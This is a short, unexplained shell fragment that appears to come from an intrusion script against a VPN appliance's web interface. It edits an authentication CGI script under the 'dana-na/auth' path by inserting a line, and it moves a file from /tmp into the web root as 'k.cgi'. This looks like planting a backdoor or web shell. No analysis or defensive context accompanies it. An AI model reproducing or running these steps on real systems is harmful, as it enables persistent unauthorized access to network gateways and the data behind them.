exit
new="/tmp/data/root";
cp /home/perl/x "$new/y"
sed -i '1a\
use POSIX;' $new/home/webserver/htdocs/dana-na/auth/b.cgi
mv /tmp/k ${new}/home/webserver/htdocs/k.cgi
